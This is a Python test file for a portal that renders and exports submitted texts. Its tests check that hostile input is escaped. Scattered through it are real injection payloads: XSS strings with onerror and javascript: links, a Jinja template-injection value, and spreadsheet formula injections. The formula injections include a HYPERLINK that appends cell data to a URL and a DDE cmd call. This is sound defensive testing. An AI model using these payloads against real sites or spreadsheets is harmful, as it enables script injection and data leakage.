"""The render stage on its own: pure functions of the submissions and the date."""

from __future__ import annotations

import dataclasses
import datetime as dt
import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from portal.checks.validate import validate_repo
from portal.config import Repo
from portal.examples import examples_root
from portal.lifecycle import select_active
from portal.model import Submission
from portal.publish.render.site import readable_namer, render_tier
from portal.textformat import markdown_html, text_block

from tests.helpers import PROJECT, VOCABULARY, tier_input


def test_plain_text_block_keeps_every_character() -> None:
    text = "1. not a list\n# not a heading\n_not emphasis_ > not a quote\n\n\ttab  two spaces <b>not bold</b> &amp;\n"
    block = text_block(text, "plain")
    assert "\n" not in block
    inner = re.fullmatch(r'<div class="portal-text portal-plain">(.*)</div>', block)
    assert inner, block
    assert html.unescape(inner.group(1)) == text


def test_markdown_is_sanitised_but_anchors_survive() -> None:
    out = markdown_html("## Summary\n\n[x](javascript:alert(1)) <script>alert(1)</script> <img src=x onerror=alert(1)> [ok](https://example.org)\n")
    assert '<h3 id="text-summary">Summary</h3>' in out  # a text's headings sit below the page title
    assert "javascript:" not in out and "<script" not in out and "onerror" not in out and "<img" not in out
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">ok</a>' in out


@pytest.mark.slow
def test_the_navigation_does_not_grow_with_the_portal(tmp_path: Path) -> None:
    from bench.corpus import make_corpus

    small = validate_repo(make_corpus(tmp_path / "a", 30)).submissions
    large = validate_repo(make_corpus(tmp_path / "b", 600)).submissions
    rendered = render_tier(tier_input(large))
    nav_small, nav_large = render_tier(tier_input(small)).nav, rendered.nav
    assert nav_small == nav_large and len(nav_large) == 14
    pages = rendered.pages
    assert max(len(page) for name, page in pages.items() if not name.startswith("print-")) < 80_000  # listings are paged
    # Printable pages hold 100 texts at most, and together every text of a kind.
    printed = [page for name, page in pages.items() if name.startswith("print-kind-need")]
    assert len(printed) > 1 and all(page.count('class="portal-print-text"') <= 100 for page in printed)
    assert sum(page.count('class="portal-print-text"') for page in printed) == sum(s.kind == "need" for s in large)
    assert "kind-need-2.md" in pages and "Page 2 of" in pages["kind-need-2.md"]


def test_expired_and_superseded_texts_are_not_rendered() -> None:
    import tempfile
    from pathlib import Path

    from tests.helpers import new_repo

    with tempfile.TemporaryDirectory() as temp:
        import shutil

        repo = new_repo(Path(temp) / "r", commit=False)
        shutil.copytree(examples_root(), repo.submissions, dirs_exist_ok=True)
        all_subs = validate_repo(repo).submissions
        active = select_active(all_subs, dt.date(2026, 11, 20))
        pages = render_tier(tier_input(active), readable_namer).pages
        everything = "\n".join(pages.values())
        assert "mrt-2025-need-survivor-data" not in everything
        assert "submission-lao-2025-need-survey-clearance-xiengkhouang.md" not in pages
        assert "submission-lao-2026-need-survey-clearance-xiengkhouang.md" in pages
        assert all("portalcanaryx" in page for page in pages.values())


@pytest.mark.slow
def test_grouped_matching_ranks_exactly_as_scoring_every_pair(tmp_path: Path) -> None:
    from portal.publish.render.matching import RESOURCE_KINDS, match_needs

    from bench.corpus import make_corpus

    subs = validate_repo(make_corpus(tmp_path / "m", 400, seed=11)).submissions
    found = match_needs(subs, VOCABULARY)
    resources = [s for s in subs if s.kind in RESOURCE_KINDS]
    for need in (s for s in subs if s.kind == "need"):
        scored = []
        for r in resources:
            themes = set(need.themes) & set(r.themes)
            if themes and r.submitter.code != need.submitter.code:
                scored.append((-(2 * len(themes) + len(set(need.assistance) & set(r.assistance))), r.kind != "offer", r.title, r.id))
        expected = [entry[3] for entry in sorted(scored)[:5]]
        assert [m.resource.id for m in found[need.id]] == expected, need.id


def test_plain_text_headings_of_the_pattern_become_headings_and_nothing_else_changes() -> None:
    from portal.publish.render.guide import pattern_headings
    from portal.publish.render.sections import plain_block, sectioned_plain_html

    headings = pattern_headings(PROJECT / "schema" / "templates", VOCABULARY.kinds)
    assert headings[:3] == ("Summary", "Background", "What is needed")
    text = (
        "Summary\nWe need <help> & more.\n\nWHAT IS NEEDED:\n1. Trucks\nSummary\nnot a heading: no blank line before it\n\n"
        "Background\n\nnot a heading either: a blank line follows it\n\n  Contact  \r\nBy mail.\n\nSummary"
    )
    out = sectioned_plain_html(text, headings)
    assert re.findall(r'<h3 class="portal-text-heading">(.*?)</h3>', out, re.S) == ["Summary\n", "WHAT IS NEEDED:\n", "  Contact  \r\n"]
    assert html.unescape(re.sub(r"</?h3[^>]*>", "", out)) == text  # every character, in order
    block = plain_block(text, headings)
    assert "\n" not in block and block.startswith('<div class="portal-text portal-plain"><h3')
    assert sectioned_plain_html(text, ()) == html.escape(text, quote=True)


def test_exports_hold_every_text_and_never_a_spreadsheet_formula() -> None:
    import csv
    import dataclasses
    import io
    import json
    import tempfile
    from pathlib import Path

    from openpyxl import load_workbook

    from portal.publish.render.export import export_csv, export_json
    from portal.publish.render.spreadsheet import export_xlsx

    from tests.helpers import new_repo

    with tempfile.TemporaryDirectory() as temp:
        import shutil

        repo = new_repo(Path(temp) / "r", commit=False)
        shutil.copytree(examples_root(), repo.submissions, dirs_exist_ok=True)
        valid = next(s for s in validate_repo(repo).submissions if s.id == "lao-2026-project-survivor-information-system")
    # A submitter's text may start like a spreadsheet formula and hold control characters.
    hostile = '=HYPERLINK("https://example.org/?"&A1)\n\x07bell ünïcode\n'
    subs = [dataclasses.replace(valid, text=hostile)]
    document = json.loads(export_json(subs, "Portal", "States", dt.date(2026, 11, 20), VOCABULARY))
    assert document["texts"][0]["text"] == hostile and document["as_of"] == "2026-11-20"
    rows = list(csv.DictReader(io.StringIO(export_csv(subs).decode("utf-8-sig"))))
    assert rows[0]["text"] == "'" + hostile  # guarded against running as a formula
    book = load_workbook(io.BytesIO(export_xlsx(subs, dt.date(2026, 11, 20), VOCABULARY)))
    sheet = book["Texts"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Text") + 1)
    assert cell.data_type == "s" and cell.value == hostile.replace("\x07", "\ufffd") and cell.quotePrefix
    # The file says the day of the texts, not the moment it was made: the same texts make the same file.
    assert book.properties.created == book.properties.modified == dt.datetime(2026, 11, 20)


def test_overview_charts_count_needs_and_offers_and_name_every_bar() -> None:
    import tempfile
    from pathlib import Path

    from portal.publish.render.overview import assistance_rows, bar_chart, submitter_rows, theme_rows

    from tests.helpers import new_repo

    with tempfile.TemporaryDirectory() as temp:
        import shutil

        repo = new_repo(Path(temp) / "r", commit=False)
        shutil.copytree(examples_root(), repo.submissions, dirs_exist_ok=True)
        subs = select_active(validate_repo(repo).submissions, dt.date(2026, 11, 20))
    rows = {row.label: row for row in theme_rows(subs, VOCABULARY)}
    clearance = rows["Clearance and risk reduction education (Article 4)"]
    assert clearance.needs == sum(s.kind == "need" and "clearance-and-risk-education" in s.themes for s in subs)
    assert clearance.offers == sum(s.kind in ("offer", "how-to-apply") and "clearance-and-risk-education" in s.themes for s in subs)
    assert [row.label for row in assistance_rows(subs, VOCABULARY)] == ["Technical", "Material", "Financial"]
    people = submitter_rows(subs)
    assert all(row.needs + row.offers for row in people) and people == sorted(people, key=lambda r: (-(r.needs + r.offers), r.label))
    svg = bar_chart("c", "Per theme", list(rows.values()))
    assert svg.count("<svg") == 1 and "<script" not in svg and " on" not in svg.replace(" offer", "")
    assert f"{clearance.needs} need" in svg and 'fill="url(#c-hatch)"' in svg and "<table" in svg


def test_front_matter_lists_are_never_read_as_markdown_and_hidden_ids_are_not_shown(example_repo_template: Path) -> None:
    from dataclasses import replace

    subs = validate_repo(Repo(example_repo_template)).submissions
    shared = next(sub for sub in subs if sub.audience == "states-and-partners" and not sub.replaces)
    meta = {**shared.meta, "links": [{"title": "![logo](https://evil.example/x.png){: data-md-component=source }", "url": "https://example.org/"}]}
    hostile = replace(shared, meta=meta, replaces="lao-2025-need-states-only")
    page = next(md for md in render_tier(tier_input([hostile]), readable_namer).pages.values() if "Links" in md)
    assert (
        '<li><a href="https://example.org/" rel="noopener noreferrer nofollow">![logo](https://evil.example/x.png){: data-md-component=source }</a></li>'
        in page
    )
    assert "lao-2025-need-states-only" not in page and "an earlier text, no longer shown" in page


def test_csv_cells_never_start_a_formula_and_hidden_replaced_ids_stay_out(example_repo_template: Path) -> None:
    import csv
    import io

    from portal.publish.render.export import export_csv, export_json

    valid = next(s for s in validate_repo(Repo(example_repo_template)).submissions if s.id == "lao-2026-project-survivor-information-system")
    sub = dataclasses.replace(valid, title="=cmd|' /C calc'!A0;=1+1, +SUM(A1)\t@x", replaces="lao-2025-need-states-only")
    data = export_csv([sub]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(data)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "lao-2025-need-states-only" not in data
    assert "lao-2025-need-states-only" not in export_json([sub], "Portal", "Partners", dt.date(2026, 11, 20), VOCABULARY).decode()
    assert "lao-2025-need-states-only" in export_csv([sub], readable={"lao-2025-need-states-only"}).decode("utf-8-sig")


HOSTILE = "<img src=x onerror=alert(1)> \" onmouseover=\"alert(2) ' {{ 'pwned' ~ 'jinja' }} *x* [y](javascript:alert(3))"


class _Tags(HTMLParser):
    """Every tag of a page's raw HTML with its attributes, as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_every_value_a_submitter_wrote_is_shown_as_text_on_every_page(tmp_path: Path) -> None:
    import shutil

    from portal.model import Attachment

    from tests.helpers import new_repo

    repo = new_repo(tmp_path / "r", commit=False)
    shutil.copytree(examples_root(), repo.submissions, dirs_exist_ok=True)
    active = select_active(validate_repo(repo).submissions, dt.date(2026, 11, 20))

    def hostile(sub: Submission) -> Submission:
        meta = {**sub.meta, "regions": [HOSTILE], "links": [{"title": HOSTILE, "url": 'https://example.org/"><b>x'}]}
        meta["source"] = {**sub.meta.get("source", {}), "converted_from": HOSTILE}
        return dataclasses.replace(
            sub,
            title=sub.title + HOSTILE,
            contact_name=HOSTILE,
            contact_email=HOSTILE,
            submitter=dataclasses.replace(sub.submitter, name=sub.submitter.name + HOSTILE),
            attachments=tuple(Attachment(a.given, a.path, HOSTILE, HOSTILE) for a in sub.attachments),
            meta=meta,
        )

    subs = [hostile(sub) for sub in active]
    assert any(sub.attachments for sub in subs) and any(sub.kind == "need" for sub in subs)
    data = dataclasses.replace(tier_input(subs), coordinator_name=HOSTILE, site_name=HOSTILE)
    pages = render_tier(data).pages
    for name, page in pages.items():
        assert "<img" not in page and "<b>" not in page, name
        assert "pwnedjinja" not in page, name  # a value is never read as a template
        for tag, attributes in _tags(page):
            assert not {"onerror", "onmouseover"} & set(attributes), (name, tag, attributes)
            assert not (attributes.get("href") or "").startswith("javascript:"), (name, tag, attributes)
    # The values are there, as text: escaped in raw HTML, and with Markdown's signs escaped in Markdown.
    assert html.escape(HOSTILE, quote=True) in pages["publishers.md"]
    page = pages[f"submission-{readable_namer(subs[0].id)}.md"]
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in page.split("\n# ", 1)[1].splitlines()[0]
    downloads = [attrs["download"] for tag, attrs in _tags("\n".join(pages.values())) if tag == "a" and "download" in attrs and "data-portal-file" in attrs]
    assert HOSTILE in downloads


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def test_a_template_missing_a_value_is_an_error_not_a_gap() -> None:
    import jinja2
    import pytest

    from portal.publish.render.templating import render

    with pytest.raises(jinja2.UndefinedError, match="coordinator_name"):
        render(
            "home.md.j2",
            site_name="Portal",
            partners_tier=False,
            example=False,
            counts=[],
            published_dates="",
            recent="recent.html",
            overview="overview.md",
            export="export.md",
            pattern="pattern.md",
            reminder_days=30,
            expiring=[],
            coordinator_email="c@example.org",
            today=dt.date(2026, 11, 20),
        )


def test_long_html_blocks_reach_the_page_as_written() -> None:
    """The portal's one-line blocks skip Markdown's HTML reader and come out byte for byte, the
    Markdown around them as before; a line that only starts like a block is Markdown's to read."""
    import markdown

    from portal.publish.render.templating import html_table

    hostile = "# heading?\n<script>x</script> *not* [link](javascript:x) &amp; \u202e" * 40
    text = text_block(hostile, "plain")
    table = str(html_table(["Title"], [["<a href='x.html'>A &amp; B</a>"]]))
    card = '<dl class="portal-card" data-search-exclude><dt>Kind</dt><dd>Need &amp; offer</dd></dl>'
    unfinished = '<div class="portal-text portal-plain"><div>closes an inner block only</div>'
    source = f"# Title\n\n{text}\n\n*between*\n\n{table}\n\n{card}\n\n{unfinished}\n\nclosed</div>\n"
    with_blocks = markdown.Markdown(extensions=["tables", "portal.publish.generate.rawblocks"])
    lines = source.split("\n")
    for step in with_blocks.preprocessors:  # what reaches Markdown's HTML reader
        if step is with_blocks.preprocessors["html_block"]:
            break
        lines = step.run(lines)
    assert text not in lines and table not in lines and card not in lines and unfinished in lines
    with_blocks.reset()
    page = with_blocks.convert(source)
    assert f"\n{text}\n" in page and f"\n{table}\n" in page
    assert "<em>between</em>" in page and "<h1>Title</h1>" in page
    assert unfinished not in with_blocks.htmlStash.rawHtmlBlocks
    plain = markdown.Markdown(extensions=["tables"]).convert(source)
    assert re.sub(r"\n+", "\n", page) == re.sub(r"\n+", "\n", plain)
